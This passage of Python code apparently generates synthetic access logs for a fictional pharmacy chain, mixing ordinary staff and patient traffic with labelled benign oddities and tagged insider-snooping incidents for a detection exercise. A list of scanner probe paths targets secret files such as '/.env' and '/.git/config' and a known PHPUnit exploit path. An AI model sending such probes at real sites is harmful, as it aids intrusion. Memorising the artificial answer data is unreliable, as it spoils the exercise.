                    "/",
                    401,
                    1293,
                    self.ua(p.ua, d),
                )
            self.iis(p, a, "/", ip=ip)
            when = lambda: r.uniform(a, b)  # noqa: E731
            if p.role == "claims":
                for _ in range(self.nb(13 * p.weight * season, 5)):
                    t, pid = when(), self.strangers(r.choice(list(self.stores)), d, 1)[0]
                    self.iis(p, t, f"/claims/{pid}?m={self.days[d]:%Y%m}")
                    if r.random() < 0.35:
                        self.iis(p, t + r.uniform(20, 200), f"/claims/{pid}/fix", "POST")
                for _ in range(r.randint(2, 6)):
                    self.iis(p, when(), f"/claims?store={r.randint(1, 42):02d}")
                if p in self.role("claims")[:2] and 5 <= dom <= 10:
                    for _ in range(r.randint(2, 5)):
                        self.iis(
                            p,
                            when(),
                            f"/export/claims?store={r.randint(1, 42):02d}",
                            size=int(r.lognormvariate(12, 0.5)),
                        )
            elif p.role == "quality":
                self.iis(p, when(), "/incidents")
                for _ in range(self.nb(7 * p.weight)):
                    self.iis(
                        p, when(), f"/review/{self.strangers(r.choice(list(self.stores)), d, 1)[0]}"
                    )
                if r.random() < 0.07:
                    self.iis(
                        p,
                        when(),
                        f"/export/review?store={r.randint(1, 42):02d}",
                        size=int(r.lognormvariate(11, 0.4)),
                    )
            elif p.role in ("hr", "it"):
                for _ in range(self.nb(4)):
                    who = r.choice(self.people).person
                    self.iis(
                        p,
                        when(),
                        f"/staff/{who}"
                        if p.role == "hr"
                        else r.choice(
                            ["/admin/users", "/admin/users", "/admin/jobs", f"/admin/users/{who}"]
                        ),
                    )
            else:
                for _ in range(self.nb(6)):
                    self.iis(
                        p,
                        when(),
                        r.choice([f"/kpi/{r.randint(1, 42):02d}", "/kpi", "/notice"]),
                        ip=ip,
                    )
                for _ in range(self.nb(1.5)):
                    self.iis(
                        p,
                        when(),
                        f"/review/{self.strangers(r.choice(list(self.stores)), d, 1)[0]}",
                        ip=ip,
                    )
        for h in range(0, 24, 2):
            self.add(
                "honbu",
                base + h * 3600 + 130 + r.random() * 5,
                "10.40.0.5",
                "SZK\\svc-sync",
                "POST",
                "/api/sync",
                200,
                ua="SyncAgent/3.1",
            )
        if dom <= 10:
            for k in range(r.randint(3, 6)):
                self.add(
                    "honbu",
                    base + 7800 + k * 240 + r.random() * 9,
                    "10.40.0.5",
                    "SZK\\batch-rece",
                    "GET",
                    f"/export/claims?store=all&part={k + 1}",
                    200,
                    int(r.lognormvariate(14, 0.3)),
                    "curl/8.5.0",
                )

    def tablet(
        self,
        p: Person,
        t: float,
        ip: str,
        target: str,
        method: str = "GET",
        status: int = 200,
        ua: str = "",
        tag: str = "",
    ) -> None:
        """One request at the care homes' server."""
        self.add("zaitaku", t, ip, p.uid, method, target, status, ua=ua or p.ua, tag=tag)

    def zaitaku_day(self, d: int) -> None:
        """Visiting pharmacists go round their homes; reports are often written in the evening at home."""
        r = self.rng
        for p in self.role("visit"):
            if not self.works(p, d) or self.holiday(d):
                continue
            t = d * DAY + r.uniform(8.6, 9.8) * 3600
            ip = self.mobile()
            if r.random() < 0.08:
                self.tablet(p, t - 20, ip, "/login", "POST", 401)
            self.tablet(p, t, ip, "/login", "POST", 302)
            late: list[str] = []
            for f in r.sample(self.rounds[p.uid], r.choice([1, 1, 2, 2, 3])):
                ip = self.wifi[f] if r.random() < 0.5 else self.mobile()
                self.tablet(p, t + 60, ip, f"/homes/{f}/residents")
                for rid in r.sample(
                    self.homes[f], min(len(self.homes[f]), 1 + self.nb(7 * p.weight, 5))
                ):
                    t += r.lognormvariate(5.6, 0.5)
                    self.tablet(p, t, ip, f"/residents/{rid}")
                    if r.random() < 0.6:
                        self.tablet(
                            p, t + r.uniform(60, 240), ip, f"/residents/{rid}/report", "POST"
                        )
                    else:
                        late.append(rid)
                t += r.uniform(1200, 3600)
            t = max(t, d * DAY + r.uniform(17, 20.2) * 3600)
            for rid in late:
                self.tablet(p, t, ip, f"/residents/{rid}")
                self.tablet(p, t + r.uniform(50, 200), ip, f"/residents/{rid}/report", "POST")
                t += r.uniform(150, 400)

    def desk_call(
        self, p: Person, t: float, d: int, member: str = "", search: bool = True, tag: str = ""
    ) -> None:
        """One call at the help desk: search by telephone number, open the member, perhaps reset."""
        r = self.rng
        member = member or r.choices(self.members, self.mweight)[0]
        ua = self.ua(p.ua, d)
        if search:
            self.add(
                "helpdesk",
                t - r.uniform(5, 30),
                HELPDESK_IP,
                p.uid,
                "POST",
                "/members/search",
                200,
                ua=ua,
                ref="/desk",
                tag=tag,
            )
        self.add(
            "helpdesk",
            t,
            HELPDESK_IP,
            p.uid,
            "GET",
            f"/members/{member}",
            ua=ua,
            ref="/desk",
            tag=tag,
        )
        if search and r.random() < 0.2:
            self.add(
                "helpdesk",
                t + r.uniform(30, 200),
                HELPDESK_IP,
                p.uid,
                "POST",
                f"/members/{member}/reset",
                200,
                ua=ua,
                tag=tag,
            )

    def helpdesk_day(self, d: int) -> None:
        """Shifts of 9 to 18 and 12 to 21, every day."""
        r = self.rng
        for p in self.role("desk"):
            if not self.works(p, d) or r.random() < 0.2:
                continue
            a = d * DAY + (9 if r.random() < 0.6 else 12) * 3600 - r.uniform(0, 600)
            self.add("helpdesk", a, HELPDESK_IP, p.uid, "POST", "/login", 302, ua=self.ua(p.ua, d))
            for _ in range(
                self.nb(
                    15
                    * p.weight
                    * self.boost.get(("desk", d), 1.0)
                    * (0.6 if self.wd(d) > 4 else 1),
                    8,
                )
            ):
                self.desk_call(p, a + r.uniform(600, 9 * 3600), d)

    def haiso_day(self, d: int) -> None:
        """Orders come in by night, dispatchers look through them, drivers deliver."""
        r = self.rng
        base = d * DAY
        if self.wd(d) == 6 or self.days[d] in (
            date(2026, 5, 3),
            date(2026, 5, 4),
            date(2026, 5, 5),
        ):
            return
        for k in range(r.randint(6, 12)):
            self.add(
                "haiso",
                base + 3600 * 5 + k * 300 + r.random() * 20,
                "10.40.0.7",
                "svc-order",
                "POST",
                "/api/orders",
                201,
                ua="python-requests/2.32.3",
            )
        for p in self.role("dispatch"):
            if self.works(p, d):
                t = base + r.gauss(7.5, 0.2) * 3600
                self.add("haiso", t, PARTNER_IP, p.uid, "POST", "/login", 302, ua=self.ua(p.ua, d))
                for _ in range(r.randint(3, 8)):
                    self.add(
                        "haiso",
                        t + r.uniform(30, 36000),
                        PARTNER_IP,
                        p.uid,
                        "GET",
                        "/deliveries",
                        ua=self.ua(p.ua, d),
                    )
                for _ in range(self.nb(6)):
                    c = r.choice(self.routes[r.randrange(9)])
                    self.add(
                        "haiso",
                        t + r.uniform(30, 36000),
                        PARTNER_IP,
                        p.uid,
                        "GET",
                        f"/deliveries/{c}",
                        ua=self.ua(p.ua, d),
                    )
        for p in self.role("driver"):
            if not self.works(p, d):
                continue
            t, ip = base + r.uniform(8.3, 9.2) * 3600, self.mobile()
            self.add("haiso", t, ip, p.uid, "POST", "/login", 302, ua=p.ua)
            for c in r.sample(
                self.routes[p.store], min(50, 4 + self.nb(9 * (0.4 if d in self.typhoon else 1)))
            ):
                t += r.lognormvariate(6.8, 0.5)
                if r.random() < 0.15:
                    ip = self.mobile()
                self.add("haiso", t, ip, p.uid, "GET", f"/deliveries/{c}", ua=p.ua)
                if r.random() < 0.93:
                    self.add(
                        "haiso",
                        t + r.uniform(60, 500),
                        ip,
                        p.uid,
                        "POST",
                        f"/deliveries/{c}/done",
                        ua=p.ua,
                    )

    # ---- patients, the public, the internet ----------------------------------------------------------------------------------
    def app(
        self,
        t: float,
        ip: str,
        m: str,
        target: str,
        method: str = "GET",
        status: int = 200,
        ua: str = "",
        sid: str = "",
        tag: str = "",
        size: int = 0,
    ) -> None:
        """One request at the app's server."""
        d = max(0, min(self.n - 1, int(t // DAY)))
        ua = self.ua(ua or self.mua.get(m, UA_PHONE[0]), d).replace(
            "{a}", "4.3.0" if d >= self.release else "4.2.1"
        )
        self.add("okusuri", t, ip, m, method, target, status, size, ua, sid, tag=tag)

    def clock(self) -> float:
        """A time of day at which people at home are awake, in seconds."""
        r = self.rng
        h = r.choice([r.gauss(12.5, 2.5), r.gauss(19.5, 2), r.gauss(9, 1.5), r.uniform(0, 24)])
        return (h % 24) * 3600

    def okusuri_day(self, d: int) -> None:
        """Members open their notebooks, send photographs of prescriptions, forget passwords."""
        r = self.rng
        for _ in range(
            self.nb(215 * self.boost.get(("app", d), 1.0) * (0.8 if self.wd(d) == 6 else 1), 30)
        ):
            m = r.choices(self.members, self.mweight)[0]
            t = d * DAY + self.clock()
            ip = self.mhome[m] if r.random() < 0.5 else self.mobile()
            sid = self.hexid(24)
            if r.random() < 0.35:
                while r.random() < 0.14:
                    self.app(t - r.uniform(8, 60), ip, m, "/api/login", "POST", 401)
                self.app(t, ip, m, "/api/login", "POST", 200, sid=sid)
            self.app(t + 2, ip, m, f"/api/notebook/{m}", sid=sid)
            if r.random() < 0.6:
                self.app(t + r.uniform(5, 60), ip, m, f"/api/notebook/{m}/items", sid=sid)
            if r.random() < 0.5:
                self.app(t + 3, ip, m, "/api/news", sid=sid)
            if r.random() < 0.2:
                self.app(t + r.uniform(20, 200), ip, m, "/api/rx-send", "POST", 201, sid=sid)
            for kid in self.mkids.get(m, []):
                if r.random() < 0.6:
                    self.app(t + r.uniform(10, 90), ip, m, f"/api/family/{kid}", sid=sid)
            if r.random() < 0.02:  # shown to a doctor by a link with a key
                self.app(
                    t + 300, self.home(), "", f"/api/share/{m}?k={self.hexid(20)}", ua=UA_PC[1]
                )
        for k in range(96):
            self.add(
                "okusuri",
                d * DAY + k * 900 + r.random() * 4,
                "203.0.113.200",
                "",
                "GET",
                "/health",
                200,
                17,
                "uptime-check/2.0",
            )

    def www_day(self, d: int) -> None:
        """The public site with its crawlers, and scanners that get nothing, here and elsewhere."""
        r = self.rng
        base = d * DAY
        pages = ["/", "/stores", "/news", "/recruit", "/about", "/faq", "/privacy", "/rx", "/otc"]
        for _ in range(self.nb(115 * self.boost.get(("www", d), 1.0), 20)):
            ip, ua, t = (
                self.home() if r.random() < 0.6 else self.mobile(),
                self.ua(r.choice(UA_PC + UA_PHONE), d),
                base + self.clock(),
            )
            for _ in range(min(12, 1 + self.nb(2.2, 1.5))):
                t += r.lognormvariate(3.2, 1)
                page = (
                    r.choice(pages)
                    if r.random() < 0.7
                    else f"/stores/{r.randint(1, 42)}"
                    if r.random() < 0.7
                    else f"/stores?pref={r.randint(11, 14)}"
                )
                self.add(
                    "www",
                    t,
                    ip,
                    "",
                    "GET",
                    page,
                    200,
                    ua=ua,
                    ref="https://www.google.com/" if r.random() < 0.2 else "",
                )
            if r.random() < 0.06:
                self.add(
                    "www",
                    t + 90,
                    ip,
                    "",
                    "POST",
                    "/rx/reserve",
                    302,
                    ua=ua,
                    ref="https://www.suzukake.example/rx",
                )
            if r.random() < 0.05:
                self.add(
                    "www",
                    t + 5,
                    ip,
                    "",
                    "GET",
                    r.choice(["/shop/index.html", "/store_list.php", "/otc/kafun2023"]),
                    404,
                    ua=ua,
                )
        for net, ua in CRAWLERS:
            for _ in range(self.nb(35, 3)):
                self.add(
                    "www",
                    base + r.random() * DAY,
                    net + str(r.randint(2, 60)),
                    "",
                    "GET",
                    r.choice(
                        pages
                        + [
                            "/robots.txt",
                            f"/stores/{r.randint(1, 42)}",
                            f"/news/{r.randint(100, 400)}",
                        ]
                    ),
                    r.choice([200, 200, 200, 304, 404]),
                    ua=ua,
                )
        for k in range(96):
            self.add(
                "www",
                base + k * 900 + r.random() * 4,
                "203.0.113.200",
                "",
                "GET",
                "/",
                200,
                5120,
                "uptime-check/2.0",
            )
        junk = [
            "/wp-login.php",
            "/.env",
            "/xmlrpc.php",
            "/.git/config",
            "/phpmyadmin/",
            "/cgi-bin/luci",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/boaform/admin/formLogin",
            "/actuator/health",
            "/owa/auth/logon.aspx",
            "/wp-content/plugins/",
            "/admin/config.php",
            "/server-status",
        ]
        for _ in range(self.nb(6, 2)):
            ip, t, site = (
                self.abroad(),
                base + r.random() * DAY,
                r.choices(["www", "haiso", "zaitaku", "okusuri"], [5, 2, 2, 2])[0],
            )
            ua = r.choice(
                [
                    "Mozilla/5.0 zgrab/0.x",
                    "python-requests/2.31.0",
                    "",
                    UA_LINUX,
                    "Go-http-client/1.1",
                ]
            )
            for _ in range(min(25, 1 + self.nb(3, 0.6))):
                t += r.uniform(0.3, 4)
                self.add(
                    site,
                    t,
                    ip,
                    "",
                    "GET",
                    r.choice(junk),
                    r.choice([404, 404, 404, 403, 400]),
                    ua=ua,
                )

    def draw(self) -> None:
        """All ordinary days, with the annoyances that shape them."""
        for d in range(self.n):
            for s in self.stores.values():
                self.store_day(s, d)
            for part in (
                self.night_calls,
                self.honbu_day,
                self.zaitaku_day,
                self.helpdesk_day,
                self.haiso_day,
                self.okusuri_day,
                self.www_day,
            ):
                part(d)

    # ---- annoyances ------------------------------------------------------------------------------------------------------------
    def calm(
        self, first: int, last: int, sites: list[str], actors: list[str], what: str, why: str
    ) -> None:
        """Note something odd that nobody wants to be woken for."""
        if first < self.n and last >= 0:
            self.annoyances.append(
                {
                    "id": f"a{len(self.annoyances) + 1:02d}",
                    "first_day": self.ymd(first),
                    "last_day": self.ymd(last),
                    "site_ids": sites,
                    "actors": actors,
                    "what": what,
                    "why_not": why,
                }
            )

    def someday(self, low: int, high: int, ok: Callable[[int], bool] | None = None) -> int:
        """A day between two, a working day where there is one."""
        pool = [d for d in range(max(0, low), min(self.n - 1, high) + 1) if (ok or self.workday)(d)]
        return self.rng.choice(pool) if pool else max(0, min(self.n - 1, low))

    def prepare(self) -> None:
        """Annoyances that shape the ordinary days: drawn before them."""
        r, n, h = self.rng, self.n, self.n // 2
        self.release = self.someday(h, n - 4)
        self.helpers: list[tuple[Person, int, set[int]]] = []
        plain = [s for s in self.stores.values() if s.kind != "mall" and not s.fc]
        moving, closing, opening, helped, duty = r.sample(plain, 5)
        self.moving = (moving, self.someday(16, n - 3, lambda d: self.wd(d) == 0))
        moving.shut = {self.moving[1] - 2, self.moving[1] - 1}
        closing.closed = self.someday(18, n - 2)
        opening.opened = self.someday(10, n - 6)
        self.used |= {p.uid for p in self.people if p.store in (moving.no, closing.no, opening.no)}
        self.calm(
            self.moving[1] - 2,
            n - 1,
            [moving.site, "yakureki"],
            [moving.site],
            f"branch {moving.no:02d} moves to another building: shut two days, then another network",
            "announced; the same people and the same patients, only the address is new",
        )
        self.calm(
            closing.closed,
            n - 1,
            [closing.site],
            [closing.site],
            f"branch {closing.no:02d} was closed for good",
            "closed_on stands in the roster",
        )
        self.calm(
            opening.opened,
            n - 1,
            [opening.site, "yakureki"],
            [opening.site],
            f"branch {opening.no:02d} opened",
            "opened_on stands in the roster",
        )
        p = self.pick(
            self.role("ph"),
            lambda p: (
                not self.stores[p.store].fc
                and p.store != helped.no
                and self.stores[p.store].kind != "mall"
            ),
        )
        p.off |= {d for d in range(n) if self.wd(d) == 1}
        tuesdays = {d for d in range(n) if self.wd(d) == 1}
        self.helpers.append((p, helped.no, tuesdays))
        self.calm(
            min(tuesdays),
            max(tuesdays),
            ["yakureki"],
            [p.uid],
            f"helps at branch {helped.no:02d} every Tuesday",
            "a standing arrangement; patients really came to that branch",
        )
        p = self.pick(self.role("helper"))
        a = self.someday(h, n - 5)
        where = r.choice([s for s in plain if s.opened < 0 and s.closed > n and s is not moving])
        self.helpers.append((p, where.no, {d for d in range(a, a + 5) if self.workday(d)}))
        self.calm(
            a,
            a + 4,
            ["yakureki"],
            [p.uid],
            f"roving pharmacist spends a week at branch {where.no:02d}, where he never was",
            "that is his job; every history opened belongs to a visit there",
        )
        sunday = self.someday(h, n - 1, lambda d: self.wd(d) == 6 or self.holiday(d))
        duty.extra.add(sunday)
        self.calm(
            sunday,
            sunday,
            ["yakureki", duty.site],
            [p.uid for p in self.people if p.store == duty.no],
            f"branch {duty.no:02d} is the town's emergency pharmacy on a Sunday or holiday",
            "duty roster of the pharmacists' association; patients come",
        )
        p = self.pick(self.role("ph"), lambda p: not self.stores[p.store].fc and p.weight < 1.5)
        self.leaver, p.left = p, self.days[self.someday(9, h - 3)]
        self.dormant = self.pick(
            self.role("ph"),
            lambda p: not self.stores[p.store].fc and len(self.works_days(p)) > self.n * 0.4,
        )
        self.dormant.off = set(range(2, n))
        p = Person(
            "tp03",
            "ph",
            r.choice([s.no for s in plain if s.opened < 0 and s.closed > n and s is not moving]),
            frozenset(range(5)),
            UA_PC[0],
            1.2,
            "T30011",
            "派遣 太郎",
            "薬剤師",
            "メディ派遣株式会社",
        )
        a = self.someday(14, n - 8)
        p.joined = self.days[a]
        self.people.append(p)
        self.by[p.uid] = p
        self.used.add(p.uid)
        self.calm(
            a,
            n - 1,
            ["yakureki"],
            [p.uid],
            "a pharmacist from an agency stands in for a colleague",
            "new account with full work from the first day, known to personnel, all with visits",
        )
        p = self.pick(self.role("cl"), lambda p: not self.stores[p.store].fc)
        self.newbie = (p, self.someday(15, n - 6))
        p.joined, p.off = self.days[self.newbie[1]], set()
        for d in sorted(d for d in range(n) if self.days[d].day <= 2 or self.days[d].day >= 30):
            self.boost[("visits", d)] = 1.1
            if d >= h and self.days[d].day >= 30:
                self.calm(
                    d,
                    d,
                    ["yakureki"],
                    ["yakureki"],
                    "month end: more patients than usual",
                    "prescriptions and public aid run out with the month",
                )
        camp = self.someday(h, n - 3)
        self.boost[("app", camp)], self.boost[("app", camp + 1)] = r.uniform(1.9, 2.5), 1.4
        self.boost[("www", camp)], self.boost[("www", camp + 1)] = r.uniform(2.2, 3.0), 1.6
        self.calm(
            camp,
            camp + 1,
            ["okusuri", "www"],
            ["okusuri", "www"],
            "campaign: points for sending prescriptions by the app, pushed at noon",
            "planned by marketing; many people, each a little",
        )
        self.boost[("desk", self.release)] = 2.0
        self.boost[("desk", self.release + 1)] = 1.5
        for d in self.typhoon:
            self.calm(
                d,
                d,
                ["yakureki", "haiso"],
                ["yakureki"],
                "typhoon: branches close at four, few patients, few deliveries",
                "the weather; all branches at once",
            )
        for d in range(1, n - 1):
            if (
                self.workday(d)
                and not self.workday(d + 1)
                and (self.holiday(d + 1) or self.days[d + 1] in OBON)
            ):
                self.boost[("visits", d)] = 1.3
                self.calm(
                    d,
                    d,
                    ["yakureki"],
                    ["yakureki"],
                    "rush on the day before a holiday, writing late into the evening",
                    "patients fetch their medicine before the holiday",
                )
                break

    def odd_days(self) -> None:
        """Annoyances laid over the ordinary days."""
        r, n, h = self.rng, self.n, self.n // 2
        for mon in sorted({x.month for x in self.days}):
            if rush := [
                d for d in range(n) if self.days[d].day <= 10 and self.days[d].month == mon
            ]:
                self.calm(
                    rush[0],
                    rush[-1],
                    ["honbu"],
                    [p.uid for p in self.role("claims")] + ["SZK\\batch-rece"],
                    "claims season, first to tenth: evenings and weekends, many more claims, two leaders export by branch, a batch exports all by night",
                    "due on the tenth of every month; the batch always from 10.40.0.5",
                )
        p, a = self.newbie
        for d in range(a, min(n, a + 6)):
            if s := self.sess.get((p.uid, d)):
                for pid in self.strangers(p.store, d, r.randint(15, 30)):
                    self.look(p, s, d * DAY + r.uniform(10, 17) * 3600, pid, "patient")
        self.calm(
            a,
            a + 5,
            ["yakureki"],
            [p.uid],
            "new clerk reads face sheets of her own branch to learn the system",
            "first week, told to by the manager; ends after the week",
        )
        p = self.pick(self.role("audit"))
        a = self.someday(h, n - 5, lambda d: self.wd(d) == 0)
        b = min(n - 1, a + 4)
        self.priv.append((p.uid, "", "review", "3", self.ymd(a), self.ymd(b)))
        self.priv.append((p.uid, "", "claim", "3", self.ymd(a), self.ymd(b)))
        for d in range(a, b + 1):
            if self.workday(d):
                for _ in range(r.randint(45, 80)):
                    self.iis(
                        p,
                        d * DAY + r.uniform(9.2, 17.8) * 3600,
                        f"/review/{self.strangers(r.choice(list(self.stores)), d, 1)[0]}",
                    )
        self.calm(
            a,
            b,
            ["honbu"],
            [p.uid],
            "internal audit week: samples from all branches",
            "announced; stands in the privileges with its dates",
        )
        d = self.someday(h, n - 1)
        quality = self.pick(self.role("quality"), lambda p: self.employed(p, d))
        for s in self.stores.values():
            if self.hours(s, d) and not s.fc:
                who = [
                    q
                    for q in self.people
                    if q.store == s.no and q.role == "ph" and (q.uid, d) in self.sess
                ]
                if who:
                    q, t = r.choice(who), d * DAY + r.uniform(10, 15) * 3600
                    ses = self.sess[(q.uid, d)]
                    self.add(
                        "yakureki",
                        t,
                        ses.ip,
                        q.uid,
                        "GET",
                        "/drug/2149039/patients",
                        ua=ses.ua,
                        sid=ses.sid,
                    )
                    for pid in self.strangers(s.no, d, 3 + self.nb(5, 2)):
                        t += r.lognormvariate(3.9, 0.5)
                        self.look(q, ses, t, pid)
        for _ in range(30):
            self.iis(
                quality,
                d * DAY + r.uniform(9.5, 18) * 3600,
                f"/review/{self.strangers(r.choice(list(self.stores)), d, 1)[0]}",
            )
        self.calm(
            d,
            d,
            ["yakureki", "honbu"],
            [quality.uid],
            "recall of a drug: every branch looks up the patients who take it",
            "ordered by quality; each branch opens only its own, after the drug's list",
        )
        m = r.choice(self.members)
        t = self.someday(h, n - 1) * DAY + r.uniform(19, 22) * 3600
        for i in range(r.randint(8, 13)):
            self.app(t + i * r.uniform(12, 30), self.mhome[m], m, "/api/login", "POST", 401)
        self.app(t + 500, self.mhome[m], m, "/api/reset", "POST", 200)
        self.app(t + 640, self.mhome[m], m, "/api/login", "POST", 200, sid="a" + self.hexid(23))
        self.app(t + 642, self.mhome[m], m, f"/api/notebook/{m}", sid="a" + self.hexid(23))
        self.calm(
            int(t // DAY),
            int(t // DAY),
            ["okusuri"],
            [m, self.mhome[m]],
            "a member forgot the password, tried a dozen times, reset it",
            "her own home line, her own notebook",
        )
        many = sorted(m for m, kids in self.mkids.items() if len(kids) > 2)
        self.calm(
            0,
            n - 1,
            ["okusuri"],
            many,
            "parents of three open their children's notebooks again and again",
            "registered family",
        )
        d = self.someday(h, n - 1, lambda d: self.wd(d) == 6)
        self.down += [(s, d * DAY + 3600, d * DAY + 5 * 3600) for s in ("okusuri", "yakureki")]
        self.lost += [("zaitaku", None, d * DAY + 1800, d * DAY + 6 * 3600)]
        self.calm(
            d,
            d,
            ["okusuri", "yakureki", "zaitaku"],
            ["okusuri", "yakureki", "zaitaku"],
            "planned maintenance on a Sunday from one to five in the morning: 503, zaitaku off",
            "announced on the public site; nobody works then",
        )
        d = self.release
        self.sick.append(
            ("okusuri", d * DAY + 36000, d * DAY + 43200, 0.12, 401, "OkusuriTecho", "")
        )
        self.calm(
            d,
            d + 1,
            ["okusuri", "helpdesk"],
            ["okusuri"],
            "new version of the app: tokens expire, many sign in anew, the help desk has double the calls",
            "a planned release, each with his own account",
        )
        p = self.pick(self.role("visit"))
        f = r.choice([f for f in self.homes if f not in self.rounds[p.uid]])
        d = self.someday(h, n - 1)
        t = d * DAY + 9.7 * 3600
        self.tablet(p, t, self.wifi[f], f"/homes/{f}/residents")
        for rid in self.homes[f]:
            t += r.lognormvariate(4.4, 0.5)
            self.tablet(p, t, self.wifi[f], f"/residents/{rid}")
        self.calm(
            d,
            d,
            ["zaitaku"],
            [p.uid],
            f"takes over care home {f}: opens all its residents in one morning",
            "handover; from the home's own Wi-Fi, and she visits it afterwards",
        )
        for e in range(d + 1, n):
            if self.works(p, e) and self.workday(e) and r.random() < 0.5:
                for i, rid in enumerate(r.sample(self.homes[f], 9)):
                    self.tablet(
                        p, e * DAY + (13.5 + i / 10) * 3600, self.wifi[f], f"/residents/{rid}"
                    )
                    self.tablet(
                        p,
                        e * DAY + (13.55 + i / 10) * 3600,
                        self.wifi[f],
                        f"/residents/{rid}/report",
                        "POST",
                    )
        d = self.someday(h, n - 3)
        for i in range(4):
            self.people.append(
                q := Person(
                    f"hd{31 + i}",
                    "trainee",
                    0,
                    frozenset(range(5)),
                    UA_PC[1],
                    1.0,
                    f"T{41000 + i}",
                    f"{r.choice(SURNAMES)} {r.choice(GIVEN)}",
                    "コールセンター",
                    "みなみコンタクト株式会社",
                    self.days[d],
                )
            )
            for e in range(d, min(n, d + 12)):
                if self.workday(e):
                    self.add(
                        "helpdesk",
                        e * DAY + 9.1 * 3600 + i * 9,
                        HELPDESK_IP,
                        q.uid,
                        "POST",
                        "/login",
                        r.choice([302, 302, 401]),
                        ua=self.ua(q.ua, e),
                    )
                    for k in range(r.randint(6, 14)):
                        self.desk_call(q, e * DAY + r.uniform(9.5, 17.5) * 3600, e)
        self.calm(
            d,
            min(n - 1, d + 11),
            ["helpdesk"],
            [f"hd{31 + i}" for i in range(4)],
            "four new operators in training, behind the centre's one address",
            "in the personnel list with their first day",
        )
        s = r.choice(
            [
                s
                for s in self.stores.values()
                if s.kind == "hospital" and s.closed > n and s.opened < 0
            ]
        )
        num = r.randint(1, 99)
        for d in range(n):
            who = [
                q
                for q in self.people
                if q.store == s.no and q.role == "ph" and (q.uid, d) in self.sess
            ]
            cl = [
                q
                for q in self.people
                if q.store == s.no and q.role == "cl" and (q.uid, d) in self.sess
            ]
            if who and cl and (hrs := self.hours(s, d)):
                self.visited[(s.no, d)].add(num)
                self.visit(
                    s,
                    d,
                    d * DAY + 10.2 * 3600 + r.gauss(0, 500),
                    d * DAY + hrs[1] * 3600,
                    f"{s.no:02d}{num:05d}",
                    who[0],
                    cl[0],
                )
        self.calm(
            0,
            n - 1,
            ["yakureki", s.site],
            [q.uid for q in self.people if q.store == s.no and q.role == "ph"],
            "one patient fetches his medicine every single day",
            "daily dispensing on the doctor's order; he checks in each time",
        )
        self.dup_day = self.someday(h, n - 2, lambda d: self.wd(d) < 5)
        self.calm(
            self.dup_day,
            self.dup_day,
            ["haiso"],
            ["haiso"],
            "the delivery partner sent one day's file twice",
            "it happens; the same lines under two names",
        )
        self.calm(
            0,
            n - 1,
            ["www"],
            ["www"],
            "Googlebot, bingbot, Applebot read the public site daily",
            "welcome",
        )
        self.calm(
            0,
            n - 1,
            ["yakureki"],
            [p.uid for p in self.oncall],
            "pharmacists on call open histories at night by VPN, a week each in turn",
            "24-hour telephone duty of community pharmacies",
        )
        self.calm(
            0,
            n - 1,
            ["helpdesk"],
            [HELPDESK_IP],
            "twenty operators behind one address",
            "an outsourced call centre",
        )
        self.calm(
            0,
            n - 1,
            ["zaitaku"],
            [p.uid for p in self.role("visit")],
            "tablets change networks several times a day; reports are written in the evening",
            "home visits",
        )
        vip, staffp = f"{r.choice([5, 15, 23]):02d}00007", f"{r.choice([3, 8]):02d}00019"
        self.vip = vip
        self.watch = [
            (vip, "vip", "", "俳優。報道後の興味本位の閲覧に注意"),
            (staffp, "staff", "", "社員本人が患者"),
        ]
        self.watch += [
            (f"{no:02d}{num:05d}", "decoy", "", "おとり。業務で開くことはない")
            for no, num in ((12, 90001), (27, 90002))
        ]
        num, no = int(staffp[2:]), int(staffp[:2])
        for d in range(r.randint(3, 9), n, 28):
            who, cl = (
                [
                    q
                    for q in self.people
                    if q.store == no and q.role == role and (q.uid, d) in self.sess
                ]
                for role in ("ph", "cl")
            )
            if who and cl and (hrs := self.hours(self.stores[no], d)):
                self.visit(
                    self.stores[no],
                    d,
                    d * DAY + 11 * 3600,
                    d * DAY + hrs[1] * 3600,
                    staffp,
                    who[0],
                    cl[0],
                )
                self.visited[(no, d)].add(num)
                self.calm(
                    d,
                    d,
                    ["yakureki"],
                    [who[0].uid],
                    "a watched employee fetches her own medicine at a branch",
                    "a real visit with check-in",
                )

    # ---- incidents ---------------------------------------------------------------------------------------------------------------
    def tell(
        self,
        tag: str,
        g: str,
        family: str,
        actors: list[str],
        what: str,
        seen: str,
        woken: bool = True,
        span: tuple[int, int, list[str]] | None = None,
    ) -> None:
        """Write an incident down; days, sites and lines come from its tagged requests where `span` does not say them."""
        self.incidents.append(
            {
                "id": tag,
                "grade": g,
                "family": family,
                "actors": actors,
                "what": what,
                "how_seen": seen,
                "woken": woken,
                "span": span,
            }
        )

    def fast(self, ok: Callable[[int], bool] | None = None) -> int:
        """The day of a short incident: mostly in the second half."""
        return self.someday(
            15 if self.rng.random() < 0.15 else max(15, self.n // 2), self.n - 1, ok
        )

    def spread(self, count: int, length: int, ok: Callable[[int], bool]) -> list[int]:
        """Up to `count` days within a stretch of `length` days."""
        length = min(length, self.n - 15)
        start = self.rng.randint(max(15, min(self.n // 2, self.n - length)), self.n - length)
        pool = [d for d in range(start, start + length) if ok(d)]
        return sorted(self.rng.sample(pool, min(count, len(pool))))

    def insider(self, role: str, fc: bool = False) -> Person:
        """A branch employee who is there most of the time."""
        return self.pick(
            self.role(role),
            lambda p: (
                p.store > 0
                and self.stores[p.store].fc == fc
                and p.company == ""
                and sum((p.uid, d) in self.sess for d in range(self.n)) > self.n * 0.5
            ),
        )

    def here(self, p: Person) -> Callable[[int], bool]:
        return lambda d: (p.uid, d) in self.sess

    def spree(
        self, p: Person, d: int, s: Session, t: float, count: int, low: float, high: float, tag: str
    ) -> None:
        """Open histories of the own branch one after the other, of people who did not come."""
        for pid in self.strangers(p.store, d, count):
            t += self.rng.uniform(low, high)
            self.look(p, s, t, pid, "karte", tag)

    def i_walk(self, g: str, tag: str) -> None:
        p, r = self.insider("cl"), self.rng
        d, cnt = (
            self.fast(lambda d: self.here(p)(d) and self.wd(d) < 5),
            {"easy": r.randint(240, 400), "medium": r.randint(80, 120), "hard": r.randint(32, 42)}[
                g
            ],
        )
        s = self.sess[(p.uid, d)]
        pids = self.unvisited(p.store, d, cnt, 40 if g != "hard" else r.randint(60, 160))
        if g == "medium":
            r.shuffle(pids)
        t, gap = s.t0 + r.uniform(900, 3600), {"easy": 9, "medium": 95, "hard": 420}[g]
        for pid in pids:
            t += r.uniform(0.4, 1.6) * gap if t < (d + 1) * DAY - 4 * 3600 else r.uniform(20, 60)
            self.look(p, s, t, pid, "patient", tag)
        self.tell(
            tag,
            g,
